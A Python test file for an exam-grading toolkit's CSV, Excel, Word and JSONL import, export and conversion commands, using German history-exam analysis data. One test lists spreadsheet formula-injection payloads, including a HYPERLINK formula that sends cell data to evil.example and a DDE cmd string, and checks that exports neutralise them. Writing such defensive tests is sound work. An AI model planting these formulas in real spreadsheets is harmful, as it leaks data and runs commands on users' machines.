"""CSV, convert and import round-trip; bad input is named."""

from __future__ import annotations

import json
from pathlib import Path

import docx
import pandas as pd

from examkit.workspace import Workspace
from export.formats import read_table
from tests.export.conftest import EXAM, LOOSE_TEXT, N_TYPED, read_lines


def test_csv_import_csv_round_trip(exam_ws: Workspace, cli, tmp_path: Path) -> None:
    first = tmp_path / "a.csv"
    assert cli("export", "csv", first, "--workspace", exam_ws.root).exit_code == 0
    rows = read_table(first).rows
    assert len(rows) == N_TYPED + 2 and rows[0]["completion"].endswith("ENDSTOP")

    other = tmp_path / "other-ws"
    result = cli("export", "import", first, "--workspace", other)
    assert result.exit_code == 0, result.output
    assert len(result.stdout.split()) == len(rows)
    again = cli("export", "import", first, "--workspace", other)
    assert again.exit_code == 0 and again.stdout.strip() == "" and "unchanged" in again.stderr  # nothing twice

    assert "no document LK-Neuzeit-2023/" in result.stderr  # another workspace's ids: new documents here

    second = tmp_path / "b.csv"
    assert cli("export", "csv", second, "--workspace", other).exit_code == 0

    def pairs(table):
        return sorted((r["prompt"], r["completion"]) for r in table.rows)

    assert pairs(read_table(second)) == pairs(read_table(first))


def test_excel_flavour_and_cp1252(exam_ws: Workspace, cli, tmp_path: Path) -> None:
    out = tmp_path / "excel.csv"
    assert cli("export", "csv", out, "--excel", "--workspace", exam_ws.root).exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfdocument_id;revision;prompt;completion")
    frame = pd.read_csv(out, sep=";", encoding="utf-8-sig")
    assert list(frame.columns) == ["document_id", "revision", "prompt", "completion"]

    legacy = tmp_path / "windows.csv"
    legacy.write_bytes(("prompt;completion\nDie Schüler schrieben.;" + LOOSE_TEXT.replace("\n", " ").replace('"', "")).encode("cp1252"))
    table = read_table(legacy)
    assert "Schüler" in table.rows[0]["prompt"] and "cp1252" in table.warnings[0]


def test_missing_columns_are_named(tmp_path: Path, cli) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("frage,antwort\na,b\n", encoding="utf-8")
    result = cli("export", "import", sheet)
    assert result.exit_code == 3
    assert "missing columns prompt, completion (found: frage, antwort)" in result.stderr


def test_import_rows_that_fail_are_listed_and_the_rest_imported(ws: Workspace, tmp_path: Path, cli) -> None:
    good = LOOSE_TEXT
    broken = "Das war gut."
    wrong = LOOSE_TEXT.replace("19 von 21", "18 von 21")
    pd.DataFrame({"prompt": ["Die Reformation begann 1517.", "b", "c"], "completion": [good, broken, wrong]}).to_excel(
        tmp_path / "alt.xlsx", index=False)
    result = cli("export", "import", tmp_path / "alt.xlsx", "--workspace", ws.root)
    assert result.exit_code == 3
    assert f"{tmp_path / 'alt.xlsx'}:3: the analysis cannot be read" in result.stderr
    assert "alt.xlsx:4: imported as written" in result.stderr  # total-mismatch: kept for the review
    assert ws.revisions.latest_analysis("import:alt/0004").sheet is None
    assert ws.revisions.latest_analysis("import:alt/0002").sheet is not None


def test_import_word_documents(ws: Workspace, tmp_path: Path, cli) -> None:
    folder = tmp_path / "korrekturen"
    folder.mkdir()
    document = docx.Document()
    document.add_paragraph("Die Reformation begann 1517 und war ein Prozess.")
    for line in LOOSE_TEXT.splitlines():
        document.add_paragraph(line)
    document.save(folder / "mueller.docx")
    docx.Document().save(folder / "leer.docx")
    result = cli("export", "import", folder / "mueller.docx", folder / "leer.docx", "--workspace", ws.root)
    assert result.exit_code == 3 and "leer.docx: no `Fehleranalyse` heading" in result.stderr
    assert result.stdout.strip() == "import:korrekturen/mueller"
    revision = ws.revisions.latest_analysis("import:korrekturen/mueller")
    assert revision.text.startswith("Fehleranalyse:\n\tAufgabe 1 (6 von 6 Punkte)")


def test_convert_prompt_completion_to_chat(tmp_path: Path, cli) -> None:
    source = tmp_path / "easygpt.jsonl"
    rows = [{"prompt": f"Antwort {i}: Die Reformation begann 1517", "completion": LOOSE_TEXT.strip() + " ENDSTOP"} for i in range(10)]
    source.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    target = tmp_path / "chat.jsonl"
    result = cli("export", "convert", source, target, "--system", "Du bist Geschichtslehrer.")
    assert result.exit_code == 0, result.output
    lines = read_lines(target)
    assert lines[0]["messages"] == [
        {"role": "system", "content": "Du bist Geschichtslehrer."},
        {"role": "user", "content": rows[0]["prompt"]},
        {"role": "assistant", "content": rows[0]["completion"]},
    ]
    back = [{"prompt": line["messages"][1]["content"], "completion": line["messages"][2]["content"]} for line in lines]
    assert back == rows
    assert cli("export", "convert", source, tmp_path / "nosys.jsonl").exit_code == 0
    assert [m["role"] for m in read_lines(tmp_path / "nosys.jsonl")[0]["messages"]] == ["user", "assistant"]


def test_convert_names_broken_lines_and_writes_nothing(tmp_path: Path, cli) -> None:
    source = tmp_path / "bad.jsonl"
    source.write_text('{"prompt": "a", "completion": "b"}\n{oops\n{"prompt": "c"}\n', encoding="utf-8")
    target = tmp_path / "out.jsonl"
    result = cli("export", "convert", source, target)
    assert result.exit_code == 1
    assert f"{source}:2: not valid JSON" in result.stderr and f"{source}:3: no text in completion" in result.stderr
    assert not target.exists()


def test_export_records_itself(exam_ws: Workspace, cli, tmp_path: Path) -> None:
    for fmt, name in (("chat", "c.jsonl"), ("jsonl", "p.jsonl"), ("csv", "x.csv")):
        assert cli("export", fmt, tmp_path / name, "--workspace", exam_ws.root).exit_code == 0
    exports = exam_ws.runs.exports()
    assert [e["format"] for e in exports] == ["chat", "jsonl", "csv"]
    assert exports[1]["data"]["validation"]["n_examples"] == N_TYPED + 2
    assert f"{EXAM}/scan-emil" in exports[0]["data"]["documents"]
    assert set(read_lines(tmp_path / "p.jsonl")[0]) == {"prompt", "completion"}


def test_reimport_never_replaces_what_a_person_corrected(ws: Workspace, tmp_path: Path, cli) -> None:
    sheet = tmp_path / "alt.csv"
    pd.DataFrame({"prompt": ["Die Reformation begann 1517."], "completion": [LOOSE_TEXT]}).to_csv(sheet, index=False)
    assert cli("export", "import", sheet, "--workspace", ws.root).exit_code == 0
    doc = "import:alt/0002"
    page = ws.documents.pages(doc)[0].id
    ws.revisions.add_text(page, "Die Reformation begann 1517 in Wittenberg.", source="review")
    corrected = ws.revisions.add_analysis(doc, ws.revisions.latest_analysis(doc).text, source="teacher")
    pd.DataFrame({"prompt": ["Die Reformation begann 1517!"], "completion": [LOOSE_TEXT.replace("\n", "\r\n")]}).to_csv(
        sheet, index=False)
    result = cli("export", "import", sheet, "--workspace", ws.root)
    assert result.exit_code == 0, result.output
    assert "corrected in the review" in result.stderr
    assert ws.revisions.latest_text(page).text == "Die Reformation begann 1517 in Wittenberg."
    assert ws.revisions.latest_analysis(doc).id == corrected.id


def test_a_second_file_with_the_same_name_is_refused_not_merged(ws: Workspace, tmp_path: Path, cli) -> None:
    for folder, prompt in (("a", "Antwort A"), ("b", "Antwort B")):
        (tmp_path / folder).mkdir()
        pd.DataFrame({"prompt": [prompt], "completion": [LOOSE_TEXT]}).to_csv(tmp_path / folder / "test.csv", index=False)
    assert cli("export", "import", tmp_path / "a" / "test.csv", "--workspace", ws.root).exit_code == 0
    result = cli("export", "import", tmp_path / "b" / "test.csv", "--workspace", ws.root)
    assert result.exit_code == 3
    assert "already belongs to" in result.stderr
    assert ws.revisions.latest_text(ws.documents.pages("import:test/0002")[0].id).text == "Antwort A"


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick") Die Reformation begann 1517.',
            "=cmd|' /C calc'!A0 Die Reformation begann 1517.", "+1+1 Die Reformation begann 1517.",
            "-1 Die Reformation begann 1517.", "@SUM(A1) Die Reformation begann 1517.",
            "'=1+1 Die Reformation begann 1517.", "''@x Die Reformation begann 1517.", "'plain Die Reformation begann 1517."]


def test_formula_characters_are_never_live_in_sheets_and_round_trip(ws: Workspace, tmp_path: Path, cli) -> None:
    from openpyxl import load_workbook

    from export.formats import csv_bytes, xlsx_bytes

    rows = [{"document_id": "=HYPERLINK(\"x\")/0001", "revision": 1, "prompt": p, "completion": "\t=1+1"} for p in FORMULAS]
    sheet = load_workbook(__import__("io").BytesIO(xlsx_bytes(rows))).active
    assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s"}
    assert [c.value for c in sheet["C"][1:]] == FORMULAS
    cells = [cell for line in csv_bytes(rows).decode().splitlines()[1:] for cell in line.split(",")]
    assert not [c for c in cells if c.lstrip('"')[:1] in ("=", "+", "-", "@", "\t", "\r")]

    source = tmp_path / "evil.xlsx"  # xlsx: cells exactly as written (a CSV's leading ' is read as a quote)
    source.write_bytes(xlsx_bytes([{"prompt": p, "completion": LOOSE_TEXT} for p in FORMULAS]))
    assert cli("export", "import", source, "--workspace", ws.root).exit_code == 0
    for name in ("a.csv", "a.xlsx"):
        assert cli("export", name.split(".")[1], tmp_path / name, "--workspace", ws.root).exit_code == 0
        other = tmp_path / f"ws-{name}"
        assert cli("export", "import", tmp_path / name, "--workspace", other).exit_code == 0
        again = tmp_path / f"again-{name}"
        assert cli("export", name.split(".")[1], again, "--workspace", other).exit_code == 0
        assert sorted(r["prompt"] for r in read_table(again).rows) == sorted(FORMULAS), name


def test_an_unreadable_revision_number_is_one_line_naming_file_and_row(exam_ws: Workspace, tmp_path: Path, cli) -> None:
    sheet = tmp_path / "a.csv"
    assert cli("export", "csv", sheet, "--workspace", exam_ws.root).exit_code == 0
    frame = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    frame.loc[0, "revision"], frame.loc[1, "revision"], frame.loc[2, "revision"] = "²", "9" * 5000, "-1"
    frame.to_csv(sheet, index=False)
    result = cli("export", "import", sheet, "--workspace", exam_ws.root)
    assert result.exit_code == 3 and "internal error" not in result.output, result.output
    for row in (2, 3, 4):
        assert f"{sheet}:{row}: " in result.stderr and "no revision number" in result.stderr


def test_a_large_import_shows_its_progress_on_stderr(ws: Workspace, tmp_path: Path, cli) -> None:
    sheet = tmp_path / "viele.csv"
    pd.DataFrame({"prompt": [f"Die Reformation begann 1517. ({i})" for i in range(30)],
                  "completion": [LOOSE_TEXT] * 30}).to_csv(sheet, index=False)
    result = cli("export", "import", sheet, "--workspace", ws.root)
    assert result.exit_code == 0, result.output
    assert "importing viele.csv: 30/30" in result.stderr and "importing" not in result.stdout


def test_a_control_character_xlsx_cannot_hold_is_named_not_an_internal_error() -> None:
    import pytest

    from examkit.errors import UserInputError
    from export.formats import xlsx_bytes

    rows = [{"document_id": "LK/anna", "revision": 3, "prompt": "Die Refor\x01mation", "completion": "x"}]
    with pytest.raises(UserInputError, match=r"LK/anna: the prompt holds a control character \(U\+0001\)"):
        xlsx_bytes(rows)


def test_an_id_with_a_line_break_is_named_on_one_line(exam_ws, tmp_path):
    # found by the fuzz of issue 26 (hypothesis seed 8): an id "0\n0" split its warning in two
    from export.formats import csv_bytes
    from export.importer import import_files

    sheet = tmp_path / "blatt.csv"
    sheet.write_bytes(csv_bytes([{"document_id": "0\n0", "revision": "", "prompt": "", "completion": ""}]))
    result = import_files(exam_ws, [sheet])
    messages = result.failures + result.warnings
    assert messages and all("\n" not in m for m in messages) and any("0\\n0" in m for m in messages)
